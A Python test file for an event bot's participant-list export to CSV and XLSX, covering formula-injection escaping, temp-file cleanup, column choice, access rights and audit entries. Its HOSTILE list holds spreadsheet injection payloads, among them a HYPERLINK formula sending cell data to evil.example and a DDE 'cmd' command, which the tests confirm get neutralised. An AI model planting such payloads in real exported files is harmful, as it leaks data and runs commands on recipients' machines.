"""EV-27: the list as a file that opens right and runs nothing, for whose event it is and nobody else."""

from __future__ import annotations

import csv
import io
import os
import tempfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from openpyxl.reader.excel import load_workbook

from bot.events.exporting import make_file
from domain import database as forma_database
from domain.accounts.people import Person
from domain.audit import trail
from domain.database import in_transaction
from domain.errors import NotAllowed, NotFound
from domain.events import lifecycle
from domain.events.entry import questions, registration
from domain.events.models import Event
from domain.events.people import exporting
from domain.events.people.errors import NoColumns
from domain.events.people.exporting import read_export
from domain.events.people.roster import PeopleFilter
from domain.events.people.tables import Csv, Xlsx, safe
from locales import translator
from tests.domain.events.test_roster import KIT, TEAM
from tests.kit.clock import START
from tests.kit.people import administrator, meet, published

PHONE: dict[str, Any] = {"key": "phone", "kind": "phone", "label": "Кому звонить"}
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"Клик")',
    "+7-cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "я" * 4000,
    "\u202eкода\u202c; «;»",
    'он сказал "да"; и ушёл',
    "два\nряда",
    "\x00\x07нуль",
    "😀" * 20,
)


@pytest.fixture
async def igor(database: str) -> Person:
    return await meet("Игорь")


async def registered(event: Event, name: str, answers: dict[str, Any] | None = None, last_name: str = "") -> int:
    person = await meet(name)
    done = await in_transaction(lambda: registration.register(person, event.id, answers or {}, now=START))
    await forma_database.execute(
        "UPDATE profiles SET first_name = $2, last_name = $3 WHERE user_id = $1", person.id, name, last_name
    )
    return done.registration_id


async def asked_for(
    actor: Person, event: Event, kind: str = "csv", columns: Sequence[str] | None = None, **wanted: Any
) -> exporting.Export:
    """What the job is given."""
    await in_transaction(lambda: exporting.ask(actor, event.id, kind, PeopleFilter(**wanted), columns, now=START))
    subject = await forma_database.fetchval(
        "DELETE FROM pgqueuer WHERE entrypoint = 'event-export' RETURNING convert_from(payload, 'UTF8')"
    )
    return read_export(subject)


async def made(export: exporting.Export, lang: str = "ru") -> bytes:
    event = await lifecycle.load(export.event_id, lock=False)
    content, _ = await make_file(export, event, translator(lang))
    return content


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "without its mark Excel takes it for another alphabet"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("table", [Csv, Xlsx])
def test_no_cell_is_a_formula_and_everything_else_is_as_it_was(table: type[Csv | Xlsx]) -> None:
    file = table("[Забег]: 5/10 км, и ещё много слов о том, какой он")
    file.add([("Имя", "Номер"), *((text, at) for at, text in enumerate(HOSTILE))])
    content = file.finish()
    rows = read_csv(content) if table is Csv else read_xlsx(content)
    assert len(rows) == len(HOSTILE) + 1 and list(map(str, rows[0])) == ["Имя", "Номер"]
    for text, (said, number) in zip(HOSTILE, rows[1:], strict=True):
        bare = text.replace("\x00", "").replace("\x07", "").replace("\r", "\n")
        is_formula = text.strip()[:1] in ("=", "+", "-", "@", "＝")
        assert str(said) == ("'" if is_formula else "") + bare, text
        assert int(number) == HOSTILE.index(text)


def test_nothing_stays_on_the_disk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither what was written meanwhile, nor what a killed process has left behind."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    left, fresh = tmp_path / "openpyxl.left", tmp_path / "openpyxl.fresh"
    for path in (left, fresh):
        path.write_text("Оля")
    os.utime(left, (0, 0))
    file = Xlsx("Забег")
    file.add([("Маша", 1)])
    assert len(list(tmp_path.iterdir())) > 1, "it is written beside memory"
    file.finish()
    assert list(tmp_path.iterdir()) == [fresh], "somebody may be writing that one now"


def test_numbers_stay_numbers() -> None:
    assert [safe(one) for one in (-5, 3.5, None, "-5", "", "плюс + минус -")] == [
        *(-5, 3.5, None, "'-5", "", "плюс + минус -")
    ]


async def test_the_file_holds_the_list_with_every_answer(igor: Person) -> None:
    event = await published(igor, questions=[TEAM, KIT, PHONE])
    answers = {"team": "spartak", "kit": ["mat", "tent"], "phone": "+79161234567"}
    await registered(event, "Оля", answers, "Смирнова")
    rows = read_csv(await made(await asked_for(igor, event)))
    assert rows[0] == [
        *("Номер", "Имя", "Имя в Telegram", "Статус", "Дата записи", "Команда", "Что взять", "Кому звонить")
    ]
    assert rows[1][:2] == ["1", "Оля Смирнова"] and rows[1][3] == "Участвует"
    assert rows[1][5:] == ["Спартак", "Коврик и Палатка", "'+79161234567"]
    assert rows[1][4] == "01.12.2026 12:00"
    english = read_csv(await made(await asked_for(igor, event), "en"))
    assert english[0][:2] == ["Number", "Name"]


async def test_columns_are_chosen_and_a_phone_is_there_only_if_it_was_asked(igor: Person) -> None:
    event = await published(igor, questions=[TEAM])
    await registered(event, "Оля", {"team": "dinamo"})
    await forma_database.execute("UPDATE profiles SET phone = '+79990000000'")
    noted: dict[str, Any] = {"label": "Взнос получен", "kind": "boolean"}
    await in_transaction(lambda: questions.add_note(igor, event.id, noted, now=START))
    everything = await made(await asked_for(igor, event))
    assert b"79990000000" not in everything and "Взнос получен".encode() in everything
    chosen = read_csv(await made(await asked_for(igor, event, columns=["name", "team", "phone", "no-such"])))
    assert chosen == [["Имя", "Команда"], ["Оля", "Динамо"]]
    for nothing in ([], ["no-such"]):
        with pytest.raises(NoColumns):
            await asked_for(igor, event, columns=nothing)
    with pytest.raises(NoColumns):
        await asked_for(igor, event, "exe")


async def test_only_those_in_the_list_are_in_the_file(igor: Person) -> None:
    event = await published(igor, questions=[TEAM])
    for name, team in (("Оля", "spartak"), ("Маша", "dinamo"), ("Лена", "spartak")):
        await registered(event, name, {"team": team})
    export = await asked_for(igor, event, "xlsx", ["name"], group="going", answer=("team", "spartak"))
    assert read_xlsx(await made(export)) == [["Имя"], ["Оля"], ["Лена"]]
    found = await asked_for(igor, event, "xlsx", ["name"], text="маш; & =%")
    assert read_xlsx(await made(found)) == [["Имя"]]


async def test_more_than_a_page_of_people_each_once(igor: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "PAGE", 2)
    event = await published(igor)
    names = ["Оля", "Маша", "Лена", "Катя", "Вера"]
    for name in names:
        await registered(event, name)
    assert [row[0] for row in read_xlsx(await made(await asked_for(igor, event, "xlsx", ["name"])))[1:]] == names


async def test_the_file_is_for_whose_event_it_is_and_is_noted(igor: Person) -> None:
    event, hidden = await published(igor), await published(igor, visibility="private")
    anna, olya = await administrator(), await meet("Оля")
    for stranger in (anna, olya):
        with pytest.raises(NotAllowed):
            await asked_for(stranger, event)
    with pytest.raises(NotFound):
        await asked_for(olya, hidden)
    export = await asked_for(igor, event)
    assert await exporting.asker_of(export) is not None
    await forma_database.execute("UPDATE events SET organizer_id = $1", anna.id)
    assert await exporting.asker_of(export) is None, "the right is asked for again when the file is made"
    await in_transaction(lambda: exporting.delivered(export, 0, now=START))
    rows = await forma_database.fetch("SELECT actor_id, action FROM audit_entries WHERE action ~ 'export' ORDER BY id")
    assert [tuple(row) for row in rows] == [(igor.id, "event-export-asked"), (igor.id, "event-exported")]
    assert await trail.first_broken_entry() is None


async def test_asked_for_twice_it_is_made_once(igor: Person) -> None:
    event = await published(igor)
    for _ in range(2):
        await in_transaction(lambda: exporting.ask(igor, event.id, "csv", PeopleFilter(), now=START))
    assert await forma_database.fetchval("SELECT count(*) FROM pgqueuer WHERE entrypoint = 'event-export'") == 1
    assert await forma_database.fetchval("SELECT count(*) FROM audit_entries WHERE action ~ 'export'") == 1
